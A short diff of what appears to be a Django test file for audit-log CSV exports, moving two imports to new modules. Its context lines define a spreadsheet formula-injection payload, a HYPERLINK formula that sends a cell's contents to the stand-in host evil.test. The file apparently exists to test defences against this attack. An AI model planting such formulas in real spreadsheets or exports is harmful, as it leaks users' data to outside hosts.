@@ -19,9 +19,9 @@ from django.test import Client
 
 from accounts.models import User
 from accounts.services import api_token_create
-from accounts.tenancy import tenant
-from auditlog.exports import CSV_COLUMNS
+from audit_read.exports import CSV_COLUMNS
 from config.celery import app
+from core.tenancy import tenant
 from tests.conftest import make_org
 
 HYPERLINK_AGENT = '=HYPERLINK("https://evil.test/?leak="&B2,"Click")'
